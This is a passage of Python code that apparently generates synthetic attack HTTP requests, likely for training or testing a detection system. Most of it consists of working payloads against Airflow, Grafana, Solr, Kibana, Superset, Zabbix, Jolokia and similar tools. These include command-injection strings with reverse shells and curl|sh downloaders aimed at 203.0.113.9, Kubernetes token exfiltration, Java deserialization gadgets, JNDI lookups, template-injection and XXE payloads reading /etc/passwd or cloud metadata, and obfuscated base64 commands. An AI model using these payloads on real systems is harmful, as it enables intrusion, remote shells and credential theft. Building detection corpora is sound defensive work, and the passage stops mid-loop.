    A(c, "java", "jolokia", "GET", "app.internal.example.net:8080", f"/jolokia/exec/ch.qos.logback.classic:Name=default,Type=ch.qos.logback.classic.jmx.JMXConfigurator/reloadByURL/http:!/!/{c.evil_ip()}!/logback.xml")
    A(c, "java", "jolokia", "POST", "kafka-broker-1.internal.example.net:8778", "/jolokia/", jdump({"type": "EXEC", "mbean": "com.sun.management:type=DiagnosticCommand", "operation": "jvmtiAgentLoad", "arguments": ["/tmp/libpwn.so"]}), "application/json")
    # deserialisation gadgets: Jackson/fastjson polymorphic typing, SnakeYAML, Java serialization
    A(c, "java", "deserialization", "POST", "api.example.io", "/api/v1/dashboards/import", jdump(["com.sun.rowset.JdbcRowSetImpl", {"dataSourceName": f"ldap://{c.oast()}/Exploit", "autoCommit": True}]), "application/json")
    A(c, "java", "deserialization", "POST", "api.example.io", "/api/v1/widgets", '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://' + c.evil_ip() + ':1099/Exploit","autoCommit":true}', "application/json")
    A(c, "java", "deserialization", "POST", "api.example.io", "/api/v1/settings", '{"a":{"@type":"java.lang.Class","val":"com.sun.rowset.JdbcRowSetImpl"},"b":{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://' + c.oast() + '/a","autoCommit":true}}', "application/json")
    A(c, "java", "deserialization", "POST", "config.internal.example.net:8080", "/api/v1/pipelines/import", "pipeline: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://203.0.113.9/yaml-payload.jar\"]]]]\n", "application/x-yaml")
    A(c, "java", "deserialization", "GET", "bi.example.org", "/report/view", extra=[["Cookie", "JSESSIONID=" + c.hex(32).upper() + "; viewstate=rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0ABZMamF2YS91dGlsL0NvbXBhcmF0b3I7eHAAAAACc3IAQm9yZy5hcGFjaGUuY29tbW9ucy5jb2xsZWN0aW9uczQuY29tcGFyYXRvcnMuVHJhbnNmb3JtaW5nQ29tcGFyYXRvcg=="]])
    ser = (b"\xac\xed\x00\x05sr\x00\x11java.util.HashSet\xbaD\x85\x95\x96\xb8\xb74\x03\x00\x00xpw\x0c\x00\x00\x00\x02?@\x00\x00\x00\x00\x00\x01sr\x004org.apache.commons.collections.keyvalue.TiedMapEntry"
           b"\x8a\xad\xd2\x9b9\xc1\x1f\xdb\x02\x00\x02L\x00\x03keyt\x00\x12Ljava/lang/Object;L\x00\x03mapt\x00\x0fLjava/util/Map;xpt\x00\x03foosr\x00*org.apache.commons.collections.map.LazyMap"
           b"n\xe5\x94\x82\x9ey\x10\x94\x03\x00\x01L\x00\x07factoryt\x00,Lorg/apache/commons/collections/Transformer;xpsr\x00:org.apache.commons.collections.functors.ChainedTransformer"
           b"0\xc7\x97\xec(z\x97\x04\x02\x00\x01[\x00\riTransformerst\x00-[Lorg/apache/commons/collections/Transformer;xpur\x00-[Lorg.apache.commons.collections.Transformer;\xbdV*\xf1\xd84\x18\x99\x02\x00\x00xp\x00\x00\x00\x05"
           b"sr\x00;org.apache.commons.collections.functors.ConstantTransformerXv\x90\x11A\x02\xb1\x94\x02\x00\x01L\x00\tiConstantq\x00~\x00\x03xpvr\x00\x11java.lang.Runtime\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00xp"
           b"sr\x00:org.apache.commons.collections.functors.InvokerTransformer\x87\xe8\xffk{|\xce8\x02\x00\x03[\x00\x05iArgst\x00\x13[Ljava/lang/Object;L\x00\x0biMethodNamet\x00\x12Ljava/lang/String;[\x00\x0biParamTypest\x00\x12[Ljava/lang/Class;xp"
           b"t\x00\ngetRuntimet\x00\x04exect\x00\x1ecurl http://203.0.113.9/x | shx")
    c.emit("java", "deserialization", None, None, None, raw=raw_request("POST", "/invoker/JMXInvokerServlet", [("Host", "jmx.internal.example.net:8080"), ("User-Agent", "Java/1.8.0_381"), ("Content-Type", "application/x-java-serialized-object; class=org.jboss.invocation.MarshalledValue")], ser))


CMDS = [
    "; curl -s http://203.0.113.9/x.sh | sh #",
    "`id`",
    "$(wget -qO- http://203.0.113.9/a|sh)",
    "; nc -e /bin/sh 203.0.113.9 4444;",
    "|| python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.9\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'",
    "\";touch /tmp/airflow_pwn;#",
    "; cat${IFS}/etc/passwd",
    "$(cat /var/run/secrets/kubernetes.io/serviceaccount/token | curl -d @- http://203.0.113.9/)",
    "| bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
    "&& c''at /e't'c/pa??wd",
    "; /???/??t /???/p??s??",
    ";{cat,/etc/passwd}",
    "\nid",
    "& powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
    "| type C:\\windows\\win.ini",
    "; echo YmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuOS80NDQ0IDA+JjE= | base64 -d | bash",
]


def a_rce(c):
    # Airflow example DAGs: CVE-2020-11978 (example_trigger_target_dag), CVE-2022-40127 (run_id), conf of custom DAGs
    for i in range(8):
        p = CMDS[i]
        k = i % 4
        if k == 0:
            A(c, "rce", "airflow-conf", "POST", c.pick(H_AIRFLOW), "/api/experimental/dags/example_trigger_target_dag/dag_runs", jdump({"conf": {"message": p}}), "application/json")
        elif k == 1:
            A(c, "rce", "airflow-conf", "POST", c.pick(H_AIRFLOW), "/api/v1/dags/example_trigger_target_dag/dagRuns", jdump({"conf": {"message": p}, "dag_run_id": f"manual__{c.tok(6)}"}), "application/json", extra=af_extra(c))
        elif k == 2:
            A(c, "rce", "airflow-conf", "POST", c.pick(H_AIRFLOW), "/api/v1/dags/example_bash_operator/dagRuns", jdump({"dag_run_id": "x" + p, "conf": {}}), "application/json", extra=af_extra(c))
        else:
            A(c, "rce", "airflow-conf", "POST", c.pick(H_AIRFLOW), "/api/v1/dags/export_partner_reports/dagRuns", jdump({"conf": {"partner": "acme" + p, "format": "csv"}}), "application/json", extra=af_extra(c))
    # Argo Workflows: parameters substituted into container args
    for i in range(5):
        p = CMDS[(i * 3 + 1) % len(CMDS)]
        if i % 2 == 0:
            A(c, "rce", "argo-params", "POST", c.pick(H_ARGO), "/api/v1/workflows/argo/submit", jdump({"resourceKind": "WorkflowTemplate", "resourceName": "nightly-report", "submitOptions": {"parameters": ["date=2026-12-04" + p]}}), "application/json")
        else:
            wf = {"metadata": {"generateName": "hello-"}, "spec": {"entrypoint": "main", "arguments": {"parameters": [{"name": "msg", "value": "hello" + p}]},
                                                              "templates": [{"name": "main", "inputs": {"parameters": [{"name": "msg"}]}, "container": {"image": "alpine:3.20", "command": ["echo"], "args": ["{{inputs.parameters.msg}}"]}}]}}
            A(c, "rce", "argo-params", "POST", c.pick(H_ARGO), "/api/v1/workflows/argo", jdump({"workflow": wf}), "application/json")
    # Papermill/Jupyter scheduler parameters injected as Python source
    for p in ["2026-12-04'\nimport os; os.system('curl http://203.0.113.9/x|sh')\n#", "x'; __import__('subprocess').check_output(['id']); '", "1; exec(__import__('base64').b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik='))"]:
        A(c, "rce", "jupyter-params", "POST", c.pick(H_JUPYTER), "/scheduler/jobs", jdump({"input_uri": "reports/weekly.ipynb", "runtime_environment_name": "python3", "parameters": {"run_date": p}, "output_formats": ["ipynb"]}), "application/json", extra=jup_extra(c))
    # Grafana CVE-2024-9264: DuckDB shellfs
    for cmd in ["id >/tmp/grafana_cmd_output 2>&1 |", "bash -c \"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\" |", "curl -s http://203.0.113.9/g.sh | sh |"]:
        e = f"SELECT 1;install shellfs from community;LOAD shellfs;SELECT * FROM read_csv('{cmd}')"
        body = {"queries": [{"refId": "B", "datasource": {"type": "__expr__", "uid": "__expr__", "name": "Expression"}, "type": "sql", "hide": False, "expression": e, "window": ""}], "from": str((BASE - 3600) * 1000), "to": str(BASE * 1000)}
        A(c, "rce", "grafana-duckdb", "POST", c.pick(H_GRAFANA), "/api/ds/query?ds_type=__expr__&expression=true&requestId=Q101", jdump(body), "application/json", extra=g_extra(c, False))
    # Apache Spark UI CVE-2022-33891 (doAs)
    for p in ["`curl%20http://203.0.113.9/s|sh`", "%60id%60", "`echo%20YmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuOS80NDQ0IDA+JjE=|base64%20-d|bash`"]:
        A(c, "rce", "spark", "GET", c.pick(["spark-master.data.svc:8080", "spark-ui.example.io"]), "/?doAs=" + p)
    # OpenTSDB CVE-2020-35476 / CVE-2023-25826 (gnuplot command injection)
    for par, val in [("yrange", "[33:system('touch%20/tmp/poc.txt')]"), ("y2range", "[1:system('curl%20http://203.0.113.9/o|sh')]"), ("key", "out%20right%20top%20box%20%60id%60")]:
        A(c, "rce", "opentsdb", "GET", c.pick(["opentsdb.internal.example.net:4242", "tsdb.example.org"]), f"/q?start=2000/10/21-00:00:00&end=2020/10/25-15:56:44&m=sum:sys.cpu.nice&o=&ylabel=&xrange=10:10&{par}={val}&wxh=1516x644&style=linespoint&baba=lala&grid=t&json")
    # Cacti CVE-2022-46169 (poller_id)
    for p in ["`touch+/tmp/x`", ";bash+-c+'bash+-i+>%26+/dev/tcp/203.0.113.9/4444+0>%261'", "%60curl%20http://203.0.113.9/c%7Csh%60"]:
        A(c, "rce", "cacti", "GET", c.pick(["cacti.acme-corp.com", "monitor.example.org"]), f"/remote_agent.php?action=polldata&local_data_ids[0]=6&host_id=1&poller_id={p}", extra=[["X-Forwarded-For", "127.0.0.1"]])
    # Hadoop YARN unauthenticated application submission
    for cmd in ["/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'", "curl -fsSL http://203.0.113.9/kinsing | sh"]:
        body = {"application-id": f"application_{BASE * 1000}_0001", "application-name": "get-shell", "am-container-spec": {"commands": {"command": cmd}}, "application-type": "YARN"}
        A(c, "rce", "yarn", "POST", "yarn-rm.data.svc:8088", "/ws/v1/cluster/apps", jdump(body), "application/json")
    # Solr RunExecutableListener (CVE-2017-12629)
    for arg in ["curl http://203.0.113.9/s.sh | sh", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"]:
        A(c, "rce", "solr", "POST", c.pick(H_SOLR), "/solr/core0/config", jdump({"add-listener": {"event": "postCommit", "name": "newlistener", "class": "solr.RunExecutableListener", "exe": "sh", "dir": "/bin/", "args": ["-c", arg]}}), "application/json")
    # Apache Kylin (CVE-2020-13925 diag, CVE-2020-1956 migrate)
    A(c, "rce", "kylin", "GET", "kylin.internal.example.net:7070", "/kylin/api/diag/project/%7c%7cping%20-c%201%20" + c.oast() + "%7c%7c/download")
    A(c, "rce", "kylin", "POST", "kylin.internal.example.net:7070", "/kylin/api/cubes/kylin_sales_cube/%60curl%20http%3A%2F%2F203.0.113.9%2Fk%7Csh%60/migrate", "", "application/json")
    # diagnostics and export features of monitoring and reporting tools that call a shell
    params = [("ping", "host"), ("traceroute", "target"), ("export", "filename"), ("snmpwalk", "community"), ("nslookup", "name")]
    for i in range(14):
        tool, par = params[i % len(params)]
        p = CMDS[(i + 2) % len(CMDS)]
        val = c.pick(["127.0.0.1", "web-01.internal", "report.csv", "public", "example.com"]) + p
        if i % 3 == 0:
            A(c, "rce", "diagnostics", "POST", c.pick(["librenms.acme-corp.com", "monitor.example.org", "nms.internal.example.net"]), f"/ajax/{tool}", form([(par, val), ("count", "3")]), "application/x-www-form-urlencoded", extra=[["X-Requested-With", "XMLHttpRequest"]])
        elif i % 3 == 1:
            A(c, "rce", "diagnostics", "GET", c.pick(["librenms.acme-corp.com", "monitor.example.org", "nms.internal.example.net"]), f"/api/v1/tools/{tool}?{par}=" + c.pick([encp, enc, penc])(val))
        else:
            A(c, "rce", "diagnostics", "POST", c.pick(["reports.acme-corp.com", "nms.internal.example.net"]), f"/api/v1/tools/{tool}", jdump({par: val, "timeout": 5}), "application/json")


def a_generic(c):
    # Kibana Timelion CVE-2019-7609 (prototype pollution into child_process env)
    tl = [
        ".es(*).props(label.__proto__.env.AAAA='require(\"child_process\").exec(\"bash -c \\'bash -i>& /dev/tcp/203.0.113.9/4444 0>&1\\'\");process.exit()//')\n.props(label.__proto__.env.NODE_OPTIONS='--require /proc/self/environ')",
        ".es(*).props(label.__proto__.env.AAAA='require(\"child_process\").exec(\"curl http://203.0.113.9/t.sh|sh\");process.exit()//')\n.props(label.__proto__.env.NODE_OPTIONS='--require /proc/self/environ')",
        ".es(*).props(label.__proto__.env.AAAA='require(\"child_process\").execSync(\"id > /tmp/pwned\")//').props(label.__proto__.env.NODE_OPTIONS='--require /proc/self/environ')",
        ".es(*).props(label.__proto__.env.x='console.log(require(\"fs\").readFileSync(\"/etc/passwd\").toString())//').props(label.__proto__.env.NODE_OPTIONS='--require /proc/self/environ')",
    ]
    for e in tl:
        A(c, "generic", "kibana-timelion", "POST", c.pick(H_KIBANA), "/api/timelion/run", jdump({"sheet": [e], "time": {"from": "now-15m", "to": "now", "mode": "quick", "interval": "auto", "timezone": "Europe/Berlin"}}), "application/json", extra=[["kbn-xsrf", "true"], ["kbn-version", "6.5.4"]])
    # the same pollution through a visualisation saved object
    A(c, "generic", "kibana-timelion", "POST", c.pick(H_KIBANA), "/api/saved_objects/visualization", jdump({"attributes": {"title": "t", "visState": jdump({"type": "timelion", "params": {"expression": tl[1], "interval": "auto"}})}}), "application/json", extra=[["kbn-xsrf", "true"]])
    # prototype pollution in JSON to Node-based dashboards and APIs
    pp = [
        {"__proto__": {"isAdmin": True}},
        {"constructor": {"prototype": {"outputFunctionName": "x;process.mainModule.require('child_process').execSync('id');x"}}},
        {"title": "x", "__proto__": {"shell": "/proc/self/exe", "argv0": "console.log(require('child_process').execSync('id').toString())//", "NODE_OPTIONS": "--require /proc/self/cmdline"}},
        {"settings": {"__proto__": {"sourceURL": "\u2028\u2029\nglobal.process.mainModule.require('child_process').execSync('curl http://203.0.113.9/p|sh')"}}},
        {"layout": {"constructor": {"prototype": {"client": True, "escapeFunction": "1; return global.process.mainModule.constructor._load('child_process').execSync('id')"}}}},
    ]
    for i, b in enumerate(pp):
        A(c, "generic", "prototype-pollution", c.pick(["POST", "PUT"]), c.pick(["dashboards.opensearch.internal.example.net", "status.example.org", "api.example.io", "reports.acme-corp.com"]), c.pick(["/api/v1/settings", "/api/saved_objects/config/8.15.3", "/api/v1/dashboards/42", "/api/user/preferences"]), jdump(b), "application/json")
    for u in ["/api/v1/dashboards?__proto__[isAdmin]=true", "/api/v1/search?constructor[prototype][polluted]=1", "/api/v1/export?__proto__.NODE_OPTIONS=--require%20/proc/self/environ", "/?__proto__[outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');s"]:
        A(c, "generic", "prototype-pollution", "GET", c.pick(["status.example.org", "api.example.io"]), u)
    # server-side JavaScript injection in Node tools (Vega/expression evaluators, custom transforms)
    js = [
        "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id').toString()",
        "require('child_process').exec('curl http://203.0.113.9/n.sh | sh')",
        "process.mainModule.require('fs').readFileSync('/etc/passwd','utf8')",
        "global.process.binding('spawn_sync').spawn({file:'/bin/sh',args:['/bin/sh','-c','id'],stdio:[{type:'pipe',readable:1}]})",
        "(function(){var net=require('net'),cp=require('child_process'),sh=cp.spawn('/bin/sh',[]);var client=new net.Socket();client.connect(4444,'203.0.113.9',function(){client.pipe(sh.stdin);sh.stdout.pipe(client);});})()",
        "eval(Buffer.from('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWNTeW5jKCdpZCcp','base64').toString())",
    ]
    for i, e in enumerate(js):
        k = i % 3
        if k == 0:
            A(c, "generic", "node-injection", "POST", "etl.internal.example.net:3000", "/api/v1/transforms/preview", jdump({"expression": e, "sample": [{"a": 1}]}), "application/json")
        elif k == 1:
            A(c, "generic", "node-injection", "GET", "charts.example.io", "/api/render?formula=" + enc(e))
        else:
            A(c, "generic", "node-injection", "POST", "status.example.org", "/api/v1/widgets/eval", form([("code", e)]), "application/x-www-form-urlencoded")
    # MongoDB server-side JavaScript through a Node API ($function)
    A(c, "generic", "node-injection", "POST", "api.example.io", "/api/v1/reports/aggregate", jdump({"pipeline": [{"$match": {"$expr": {"$function": {"body": "function(){ return require('child_process').execSync('id').toString() }", "args": [], "lang": "js"}}}}]}), "application/json")


SSTI_JINJA = [
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}{{ c.__init__.__globals__['__builtins__'].eval(\"__import__('os').popen('id').read()\") }}{% endif %}{% endfor %}",
    "{{ lipsum.__globals__.os.popen('cat /etc/passwd').read() }}",
    "{{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "{{ config.__class__.__init__.__globals__['os'].popen('curl http://203.0.113.9/j|sh').read() }}",
    "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fbase\\x5f\\x5f')|attr('\\x5f\\x5fsubclasses\\x5f\\x5f')() }}",
    "{{ cycler['__init__']['__globals__']['os']['popen']('whoami')['read']() }}",
    "{{ joiner.__init__.__globals__.os.popen('env').read() }}",
    "{{ namespace.__init__.__globals__.os.popen('id').read() }}",
    "{{ get_flashed_messages.__globals__.__builtins__.open('/etc/passwd').read() }}",
    "{{ url_for.__globals__['current_app'].config }}",
    "{% set x = cycler.__init__.__globals__.os %}{{ x.system('id') }}",
]


def a_ssti(c):
    # Superset SQL Lab / virtual datasets / chart extras (Jinja templating)
    for i, t in enumerate(SSTI_JINJA):
        k = i % 4
        if k == 0:
            body = {"client_id": c.tok(10), "database_id": 1, "json": True, "runAsync": False, "schema": "public", "sql": f"SELECT '{t}' AS x", "sql_editor_id": "1", "tab": "Untitled Query 1", "queryLimit": 1000, "templateParams": "{}"}
            A(c, "ssti", "superset-jinja", "POST", c.pick(H_SUPERSET), "/api/v1/sqllab/execute/", jdump(body), "application/json", extra=ss_extra(c))
        elif k == 1:
            A(c, "ssti", "superset-jinja", "PUT", c.pick(H_SUPERSET), f"/api/v1/dataset/{c.rng.randint(1, 90)}", jdump({"sql": f"SELECT * FROM orders WHERE country = '{t}'"}), "application/json", extra=ss_extra(c))
        elif k == 2:
            body = {"datasource": {"id": 3, "type": "table"}, "queries": [{"extras": {"where": f"country = '{t}'"}, "metrics": ["count"], "columns": [], "row_limit": 10}], "result_format": "json", "result_type": "full"}
            A(c, "ssti", "superset-jinja", "POST", c.pick(H_SUPERSET), "/api/v1/chart/data", jdump(body), "application/json", extra=ss_extra(c))
        else:
            A(c, "ssti", "superset-jinja", "POST", c.pick(H_SUPERSET), "/api/v1/sqllab/execute/", jdump({"database_id": 1, "schema": "public", "sql": "SELECT 1", "templateParams": jdump({"ds": t}), "runAsync": False, "json": True}), "application/json", extra=ss_extra(c))
    # Airflow: values rendered by Jinja in templated fields
    for t in SSTI_JINJA[:5]:
        A(c, "ssti", "airflow-jinja", "POST", c.pick(H_AIRFLOW), "/api/v1/dags/export_partner_reports/dagRuns", jdump({"conf": {"partner": t, "format": "csv"}}), "application/json", extra=af_extra(c))
    A(c, "ssti", "airflow-jinja", "POST", c.pick(H_AIRFLOW), "/api/v1/variables", jdump({"key": "report_header", "value": "{{ macros.__builtins__['__import__']('os').popen('id').read() }}"}), "application/json", extra=af_extra(c))
    # Solr VelocityResponseWriter CVE-2019-17558
    vel = ("#set($x='') #set($rt=$x.class.forName('java.lang.Runtime')) #set($chr=$x.class.forName('java.lang.Character')) #set($str=$x.class.forName('java.lang.String')) "
           "#set($ex=$rt.getRuntime().exec('CMD')) $ex.waitFor() #set($out=$ex.getInputStream()) #foreach( $i in [1..$out.available()])$str.valueOf($chr.toChars($out.read()))#end")
    for cmd in ["id", "cat /etc/passwd", "curl http://203.0.113.9/v|sh"]:
        A(c, "ssti", "solr-velocity", "GET", c.pick(H_SOLR), "/solr/core0/select?q=1&&wt=velocity&v.template=custom&v.template.custom=" + encp(vel.replace("CMD", cmd)))
    # report/notification template engines of Java, PHP, Ruby and Node tools
    others = [
        ("freemarker", '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}'),
        ("freemarker", '${"freemarker.template.utility.Execute"?new()("curl http://203.0.113.9/f|sh")}'),
        ("velocity", "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null).exec(\"id\")"),
        ("thymeleaf", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
        ("twig", "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}"),
        ("twig", "{{['id']|filter('system')}}"),
        ("erb", "<%= `id` %>"),
        ("erb", "<%= File.open('/etc/passwd').read %>"),
        ("handlebars", "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return require('child_process').execSync('id');\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}"),
        ("smarty", "{system('cat /etc/passwd')}"),
        ("mako", "${self.module.cache.util.os.system('id')}"),
        ("pebble", "{% set cmd = 'id' %}{% set bytes = (1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,null).exec(cmd).inputStream.readAllBytes() %}{{ (1).TYPE.forName('java.lang.String').constructors[0].newInstance(([bytes]).toArray()) }}"),
    ]
    for eng, t in others:
        k = c.rng.randint(0, 2)
        if k == 0:
            A(c, "ssti", "report-templates", "POST", c.pick(["reports.acme-corp.com", "alerts.example.io", "bi.example.org"]), "/api/v1/report-templates", jdump({"name": "weekly", "engine": eng, "body": f"<h1>Weekly report</h1>{t}"}), "application/json")
        elif k == 1:
            A(c, "ssti", "report-templates", "POST", c.pick(["reports.acme-corp.com", "alerts.example.io"]), "/api/v1/notifications/preview", form([("subject", f"[ALERT] {t}"), ("channel", "email")]), "application/x-www-form-urlencoded")
        else:
            A(c, "ssti", "report-templates", "GET", c.pick(["reports.acme-corp.com", "alerts.example.io", "bi.example.org"]), "/api/v1/report/preview?title=" + enc(t))


def a_xxe(c):
    o = c.oast()
    # Solr CVE-2017-12629: xmlparser query parser
    for v in [f"<!DOCTYPE a SYSTEM \"http://{o}/xxe.dtd\"><a></a>",
              "<?xml version=\"1.0\" encoding=\"UTF-8\"?><!DOCTYPE root [<!ENTITY % remote SYSTEM \"http://" + o + "/e.dtd\">%remote;]><root/>",
              "<!DOCTYPE r [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><r>&xxe;</r>"]:
        A(c, "xxe", "solr-xmlparser", "GET", c.pick(H_SOLR), "/solr/demo/select?q=" + enc("{!xmlparser v='" + v + "'}") + "&wt=xml")
    A(c, "xxe", "solr-xmlparser", "GET", c.pick(H_SOLR), "/solr/demo/select?defType=xmlparser&q=" + encp("<?xml version=\"1.0\"?><!DOCTYPE root [<!ENTITY xxe SYSTEM \"file:///etc/shadow\">]><root>&xxe;</root>"))
    A(c, "xxe", "solr-xmlparser", "POST", c.pick(H_SOLR), "/solr/demo/select", form([("q", "{!xmlparser v='<!DOCTYPE a SYSTEM \"http://" + c.oast() + "/x\"><a></a>'}"), ("wt", "json")]), "application/x-www-form-urlencoded")
    # Solr update handler: XML documents with entities, also through stream.body
    A(c, "xxe", "solr-update", "POST", c.pick(H_SOLR), "/solr/core0/update?commit=true", "<?xml version=\"1.0\"?>\n<!DOCTYPE add [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n<add><doc><field name=\"id\">1</field><field name=\"title\">&xxe;</field></doc></add>", "text/xml")
    A(c, "xxe", "solr-update", "GET", c.pick(H_SOLR), "/solr/core0/update?commit=true&stream.body=" + enc("<!DOCTYPE add [<!ENTITY % d SYSTEM \"http://" + o + "/d.dtd\">%d;]><add><doc><field name=\"id\">2</field></doc></add>"))
    A(c, "xxe", "solr-update", "POST", c.pick(H_SOLR), "/solr/core0/update", "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY % file SYSTEM \"file:///etc/hostname\"><!ENTITY % dtd SYSTEM \"http://" + o + "/evil.dtd\">%dtd;]><add><doc><field name=\"id\">&send;</field></doc></add>", "application/xml")
    # Solr DataImportHandler with an external entity in dataConfig
    dc = "<?xml version=\"1.0\"?><!DOCTYPE dataConfig [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><dataConfig><dataSource type=\"URLDataSource\"/><document><entity name=\"e\" url=\"http://localhost/&xxe;\" processor=\"XPathEntityProcessor\" forEach=\"/x\"/></document></dataConfig>"
    A(c, "xxe", "solr-dih", "POST", c.pick(H_SOLR), "/solr/core0/dataimport", form([("command", "full-import"), ("debug", "true"), ("dataConfig", dc)]), "application/x-www-form-urlencoded")
    # Zabbix configuration.import (XML source inside JSON-RPC)
    for ent in ["<!ENTITY xxe SYSTEM \"file:///etc/zabbix/zabbix_server.conf\">", "<!ENTITY % p SYSTEM \"http://" + o + "/z.dtd\">%p;", "<!ENTITY xxe SYSTEM \"php://filter/convert.base64-encode/resource=/etc/zabbix/web/zabbix.conf.php\">"]:
        src = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE zabbix_export [" + ent + "]>\n<zabbix_export><version>6.0</version><templates><template><uuid>" + c.hex(32) + "</uuid><template>T &xxe;</template><name>T</name></template></templates></zabbix_export>"
        body = {"jsonrpc": "2.0", "method": "configuration.import", "params": {"format": "xml", "rules": {"templates": {"createMissing": True, "updateExisting": True}}, "source": src}, "auth": c.hex(32), "id": 1}
        A(c, "xxe", "zabbix-import", "POST", c.pick(H_ZABBIX), "/zabbix/api_jsonrpc.php", jdump(body), "application/json-rpc")
    # NiFi template upload, JasperReports/Pentaho report upload (multipart XML)
    for fn, ctype, xml in [
        ("template.xml", "text/xml", "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE template [<!ENTITY xxe SYSTEM \"file:///opt/nifi/conf/nifi.properties\">]>\n<template encoding-version=\"1.3\"><description>&xxe;</description><name>etl</name><snippet/></template>"),
        ("weekly.jrxml", "application/xml", "<?xml version=\"1.0\"?>\n<!DOCTYPE jasperReport [<!ENTITY % ext SYSTEM \"http://" + o + "/j.dtd\"> %ext;]>\n<jasperReport name=\"weekly\"><title><band height=\"40\"/></title></jasperReport>"),
        ("report.prpt.xml", "application/xml", "<?xml version=\"1.0\"?>\n<!DOCTYPE r [<!ENTITY xxe SYSTEM \"file:///c:/windows/win.ini\">]>\n<report><name>&xxe;</name></report>"),
    ]:
        bnd = "----WebKitFormBoundary" + c.tok(16)
        body = f"--{bnd}\r\nContent-Disposition: form-data; name=\"template\"; filename=\"{fn}\"\r\nContent-Type: {ctype}\r\n\r\n{xml}\r\n--{bnd}--\r\n"
        path = "/nifi-api/process-groups/root/templates/upload" if fn == "template.xml" else "/pentaho/api/repo/files/import"
        A(c, "xxe", "report-import", "POST", c.pick(["nifi.internal.example.net:8443", "pentaho.acme-corp.com"]), path, body, f"multipart/form-data; boundary={bnd}")
    # generic XML imports of dashboards, metrics and data sets
    xmls = [
        "<?xml version=\"1.0\"?><!DOCTYPE dashboard [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><dashboard><title>&xxe;</title></dashboard>",
        "<?xml version=\"1.0\"?><!DOCTYPE data [<!ENTITY % file SYSTEM \"file:///etc/hostname\"><!ENTITY % dtd SYSTEM \"http://" + o + "/evil.dtd\">%dtd;]><data>&send;</data>",
        "<?xml version=\"1.0\"?><metrics xmlns:xi=\"http://www.w3.org/2001/XInclude\"><metric name=\"x\"><xi:include href=\"file:///etc/passwd\" parse=\"text\"/></metric></metrics>",
        "<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\"><!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\"><!ENTITY lol4 \"&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;\">]><rows><row>&lol4;</row></rows>",
        "<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"expect://id\">]><rows><row>&xxe;</row></rows>",
        "<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"jar:http://" + o + "/evil.jar!/x.txt\">]><rows><row>&xxe;</row></rows>",
        "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM \"file:///var/lib/grafana/grafana.db\">]><svg xmlns=\"http://www.w3.org/2000/svg\" width=\"100\" height=\"30\"><text x=\"0\" y=\"20\">&xxe;</text></svg>",
        "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY xxe SYSTEM \"http://169.254.169.254/latest/meta-data/iam/security-credentials/\">]><r>&xxe;</r>",
    ]
    for i, x in enumerate(xmls):
        path = c.pick(["/api/v1/dashboards/import", "/api/import/xml", "/api/v1/datasets/upload?format=xml", "/api/v1/metrics/import"])
        ct = "image/svg+xml" if "<svg" in x else c.pick(["application/xml", "text/xml"])
